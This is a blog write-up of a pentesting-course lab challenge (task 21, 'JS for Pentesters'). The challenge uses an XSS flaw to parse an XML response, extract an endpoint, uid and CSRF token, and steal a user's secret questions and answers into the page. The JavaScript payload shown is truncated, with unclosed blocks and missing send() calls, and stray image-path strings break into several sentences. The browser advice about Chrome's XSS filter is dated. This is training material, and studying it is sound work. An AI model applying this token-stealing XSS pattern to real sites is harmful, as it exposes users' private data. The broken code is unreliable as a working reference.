XSS - Multilevel XML Parsing: JS for Pentesters task 21 write up

Nov 3, 2014 • jsp, javascript, xss, security-tube

writeup for task-21 of JS for pentesters series by security-tube - Multilevel XML parsing

We have already seen and cracked challenges that deals with Multilevel JSON and HTML parsing already. Now let us look into the 3rd one namely parsing XML.

JS for Pentesters task 21

Our objective of this challenge is to Find John’s Secret Questions+Answers using an XSS vulnerability on this page and Display the Questions+Answers in the div with id “result”. Before carrying in with the challenge, I strongly recommend you to read “Ajax: Parsing and reading XML files” for the basics on how to parse and readXML file using Ajax.

        var request = new XMLHttpRequest();
        request.onreadystatechange = function() {
            if ((request.readyState === 4) && (request.status === 200)) {
                var endpoint = request.responseXML.getElementsByTagName('endpoint')[0].firstChild.nodeValue;
                var uid = request.responseXML.getElementsByTagName('uid-param-value')[0].firstChild.nodeValue;
                var csrf_token = request.responseXML.getElementsByTagName('token-param-value')[0].firstChild.nodeValue;
                var params = request.responseXML.getElementsByTagName('uid-param-value');
                var req = new XMLHttpRequest();
                var url = endpoint + "?uid=" + uid + "&token=" + csrf_token;
                req.open('GET', url);
                req.onreadystatechange = function() {
                    if ((req.readyState === 4) && (req.status === 200)) {
                        var result = document.getElementById("result").innerHTML = req.responseText;
        request.open('GET', '/lab/webapp/jfp/21/getxml');

Since the response we get from the request is in the format XML, we use the keyword responseXML instead of responseText. From XML files, we can easily take any values we needjust like accessing values from HTML files. Thats why you can see that we are accessing the values we need from the XML document using document.getElementsByTagName() which is usually used to select data from an HTML file.


1) While playing with XSS challenges, it is always recommended to use Mozilla Firefox because Google chrome has inbuilt XSS stopper which will stop us from executing arbitrary JavaScript code even if the page is vulnerable to XSS. So its strongly recommended to use Firefox instead of chrome.

We hope that you really liked this challenge. If there is anything you didn’t understand or wanted to get more clarity, please comment down and we are more than happy to help. Also, if you get a better way of solving the challenge, please share it with us and we are happy to learn from our readers too. Happypentesting..

By this, we arecompleting the write ups of Pentester Academy’s JavaScript for Pentesters course challenge write ups. Hope you enjoyed solving the challenges as much as we do :)

Anirudh Anand

Security Engineer @CRED | Web Application Security ♥ | Google, Microsoft, Zendesk, Gitlab Hall ofFames | Blogger | CTF lover - @teambi0s | Certs - eWDP, OSCP